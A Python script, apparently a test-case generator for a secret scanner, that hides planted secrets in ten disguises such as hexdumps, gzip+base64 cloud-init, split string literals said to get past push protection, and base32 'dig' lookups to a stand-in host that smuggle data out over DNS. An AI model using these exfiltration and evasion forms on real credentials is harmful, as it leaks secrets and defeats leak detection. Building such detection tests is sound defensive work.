#!/usr/bin/env python3
"""Ten more ways in which a secret stands in a trace, written by someone who had not seen the rules.

    python3 disguises.py OUT_DIR [--seed N]

writes the same two files as plant.py (22 kinds x 10 disguises, and clean cases with secret null). The author read
plant.py and nothing else: neither the scanner nor its tests. Whoever tunes the rules on these should
no longer call them unseen.
Every secret can be got back whole from the text with standard tools; none of these is a cipher.
The clean cases are those of plant.py plus, for each disguise, the same form around something harmless ("like-NAME").
Standard library and what plant.py needs only.
"""
import argparse, base64, gzip, json, os, sys

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import plant


def chunks(s, n):
    return [s[i:i + n] for i in range(0, len(s), n)]


def as_file(k, v):
    """The file that the secret is in: a key file or credentials as they are, anything else as NAME=value."""
    return v.rstrip("\n") + "\n" if "\n" in v else f"{k}={v}\n"


def hexdump(k, v):
    """$ hexdump -C: 16 bytes a line, the text column cut in pieces."""
    data, out = as_file(k, v).encode(), []
    for i in range(0, len(data), 16):
        row = data[i:i + 16]
        cells = [f"{b:02x}" for b in row] + ["  "] * (16 - len(row))
        text = "".join(chr(b) if 32 <= b < 127 else "." for b in row)
        out.append(f"{i:08x}  {' '.join(cells[:8])}  {' '.join(cells[8:])}  |{text}|")
    return "$ hexdump -C .env\n" + "\n".join(out) + f"\n{len(data):08x}\n"


def boxed_pane(k, v, width=36):
    """A terminal UI shows the file in a narrow bordered pane, long lines hard-wrapped."""
    rows = [part for line in as_file(k, v).rstrip("\n").split("\n") for part in chunks(line, width) or [""]]
    top = "╭─ preview " + "─" * (width - 8) + "╮"
    return "\n".join([top] + [f"│ {row.ljust(width)} │" for row in rows] + ["╰" + "─" * (width + 2) + "╯"])


def sse_deltas(k, v):
    """The raw stream of a model that repeats the secret: a few characters in each event."""
    text, sizes, i, n, out = f"Your value is `{v}`.", (3, 5, 2, 4, 6, 1), 0, 0, []
    while i < len(text):
        piece = text[i:i + sizes[n % len(sizes)]]
        event = {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": piece}}
        out.append(f"event: content_block_delta\ndata: {json.dumps(event)}\n")
        i, n = i + len(piece), n + 1
    return "\n".join(out) + '\nevent: message_stop\ndata: {"type": "message_stop"}\n'


def diff_concatenation(k, v):
    """A diff that hard-codes the secret as adjacent string literals (line length, or to get past push protection)."""
    parts = [json.dumps(p) for line in v.splitlines(keepends=True) for p in chunks(line, 20)]
    added = [f"+{k} = ("] + [f"+    {p}" for p in parts] + ["+)"]
    return "\n".join(["diff --git a/app/config.py b/app/config.py", "index 3f1c2ab..9d04e7c 100644", "--- a/app/config.py", "+++ b/app/config.py",
                      f"@@ -1,4 +1,{3 + len(added)} @@", " import os", " ", f'-{k} = os.environ["{k}"]'] + added + [" DEBUG = False", ""])


def cloud_init(k, v):
    """cloud-config user data: write_files with encoding gz+b64, wrapped in a YAML block."""
    packed = base64.b64encode(gzip.compress(as_file(k, v).encode(), mtime=0)).decode()
    return ("#cloud-config\nwrite_files:\n- path: /etc/app/app.env\n  permissions: '0600'\n  encoding: gz+b64\n  content: |\n"
            + "".join(f"    {line}\n" for line in chunks(packed, 76)) + "runcmd:\n- systemctl restart app\n")


def node_buffer(k, v):
    """JSON.stringify of what fs.readFileSync gives without an encoding: decimal bytes."""
    return json.dumps({"ok": True, "file": ".env", "contents": {"type": "Buffer", "data": list(as_file(k, v).encode())}}, separators=(",", ":"))


def grep_colour(k, v):
    """$ grep -rn -A --color=always PREFIX: colour codes inside the secret, a file name and number before each line."""
    term = next((w for w in ("PRIVATE", "PUBLIC", "AKIA") if w in v), v[:4])
    paint = lambda colour, s: f"\x1b[{colour}m\x1b[K{s}\x1b[m\x1b[K"
    out = []
    for n, line in enumerate(as_file(k, v).rstrip("\n").split("\n"), 12):
        sep = paint("36", ":" if term in line else "-")
        out.append(paint("35", "deploy/secrets.env") + sep + paint("32", n) + sep + line.replace(term, paint("01;31", term)))
    return "\n".join(out) + "\n"


def utf16_nul(k, v):
    """A file that Windows PowerShell's > wrote (UTF-16LE with a mark), shown by a tool that reads it as UTF-8."""
    text = as_file(k, v).replace("\n", "\r\n")
    return "\ufffd\ufffd" + "".join(c + "\0" for c in text)


def dns_labels(k, v):
    """Smuggled out by name look-ups: base32, cut into labels, one query a label."""
    packed = base64.b32encode(as_file(k, v).encode()).decode().rstrip("=").lower()
    return "\n".join(f"dig +short {n}.{label}.t.telemetry-check.example A" for n, label in enumerate(chunks(packed, 50))) + "\n"


def notebook_repr(k, v):
    """A notebook whose cell shows repr(text), read by a tool that answers in JSON: newlines escaped three times."""
    cell = {"cell_type": "code", "execution_count": 3, "metadata": {}, "source": ["open('.env').read()"],
            "outputs": [{"output_type": "execute_result", "execution_count": 3, "metadata": {},
                         "data": {"text/plain": [repr("DEBUG=1\n" + (as_file(k, v) if "\n" in v else f"# {k}\n{v}\n") + "PORT=3000\n")]}}]}
    book = json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}, indent=1)
    return json.dumps({"type": "tool_result", "content": [{"type": "text", "text": book}]})


DISGUISES = {
    "hexdump": hexdump,
    "boxed-pane": boxed_pane,
    "sse-deltas": sse_deltas,
    "diff-concatenation": diff_concatenation,
    "cloud-init-gz-b64": cloud_init,
    "node-buffer": node_buffer,
    "grep-colour": grep_colour,
    "utf16-nul": utf16_nul,
    "dns-base32": dns_labels,
    "notebook-repr": notebook_repr,
}

# Eleven entries: with ten places and ten disguises, each disguise would always stand in the same place.
PLACES = plant.PLACES + ["observation"]


def harmless(rnd):
    """(name, value) pairs that are no secrets, of the lengths and shapes that secrets have."""
    k = plant.Kinds(rnd)
    rand = lambda n: bytes(rnd.randrange(256) for _ in range(n))
    ssh = base64.b64encode(b"\0\0\0\x0bssh-ed25519\0\0\0\x20" + rand(32)).decode()
    pem = "\n".join(chunks(base64.b64encode(rand(294)).decode(), 64))
    return [
        ("GIT_COMMIT", k.r(40, plant.HEX)),
        ("IMAGE", f"ghcr.io/acme/app@sha256:{k.r(64, plant.HEX)}"),
        ("DEPLOY_PUBKEY", f"ssh-ed25519 {ssh} ci@acme"),
        ("KEY", f"-----BEGIN PUBLIC KEY-----\n{pem}\n-----END PUBLIC KEY-----\n"),
        ("API_KEY", "your-api-key-goes-here-see-docs-setup-md"),
        ("README", "Install the package, copy the sample file and\nrun the migration before the first start.\nThen open the page on port 3000.\n"),
    ]


_plain_clean_cases = plant.clean_cases
_round = [0]


def clean_cases(rnd):
    """plant.py's clean cases, then one look-alike for each disguise; over six rounds each disguise meets each harmless value."""
    yield from _plain_clean_cases(rnd)
    values = harmless(rnd)
    for n, (name, disguise) in enumerate(DISGUISES.items()):
        yield "like-" + name, disguise(*values[(n + _round[0]) % len(values)])
    _round[0] += 1


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("out")
    ap.add_argument("--seed", type=int, default=1)
    a = ap.parse_args()
    plant.clean_cases = clean_cases
    t = plant.plant(a.out, a.seed, contexts=DISGUISES, places=PLACES)
    print(f"{sum(v['secret'] is not None for v in t.values())} with a secret, {sum(v['secret'] is None for v in t.values())} clean")


if __name__ == "__main__":
    main()
